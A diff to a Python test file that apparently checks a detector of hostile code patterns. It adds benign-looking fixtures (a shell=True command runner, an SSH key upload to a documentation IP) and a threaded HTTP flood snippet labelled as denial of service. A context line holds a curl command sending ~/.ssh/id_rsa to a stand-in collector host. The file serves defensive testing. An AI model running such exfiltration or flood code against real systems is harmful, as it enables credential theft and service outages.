@@ -231,6 +231,18 @@ def size(path):
         total += size(entry.path) if entry.is_dir() else entry.stat().st_size
     return total
 """,
+    "a click command line that runs the command it is given": """
+import click, subprocess
+@click.command()
+@click.argument("cmd")
+def main(cmd):
+    subprocess.run(cmd, shell=True)
+""",
+    "a setup script that hands out a public key and reads its own token from the keyring": """
+import keyring, subprocess
+subprocess.run(["scp", os.path.expanduser("~/.ssh/id_ed25519.pub"), "deploy@203.0.113.7:.ssh/authorized_keys"])
+token = keyring.get_password("deploy-cli", "me")
+""",
 }
 
 
@@ -350,3 +362,20 @@ def test_a_shell_glob_is_not_a_comment_that_hides_the_rest(code):
 def test_a_block_comment_still_hides_what_it_says():
     code = "/* curl -F f=@$HOME/.ssh/id_rsa https://collector.example/u\n*/\necho done\n"
     assert detect(code) == []
+
+
+def test_a_family_needs_its_parts_together_not_scattered_over_a_large_file():
+    flood = ("import threading, requests\ntarget_url = 'https://shop.example/'\n\ndef hit():\n    while True:\n"
+             "        requests.get(target_url)\n\nfor _ in range(500):\n    threading.Thread(target=hit).start()\n")
+    assert "capability-denial-of-service" in families(flood)
+    filler = "".join(f"def helper_{i}(x):\n    return x + {i}\n\n" for i in range(80))
+    scattered = ("import threading, requests\ntarget_url = 'https://api.example/'\n" + filler
+                 + "def poll():\n    while True:\n        job = queue.get()\n" + filler
+                 + "def send(data):\n    requests.get(target_url)\n" + filler
+                 + "worker = threading.Thread(target=poll)\n")
+    assert "capability-denial-of-service" not in families(scattered)
+
+
+def test_the_keyword_of_a_thread_is_not_an_attack_target():
+    code = "import threading, requests\nwhile True:\n    requests.get(url)\nthreading.Thread(target=run).start()\n"
+    assert not capabilities(code).get("attack_target")
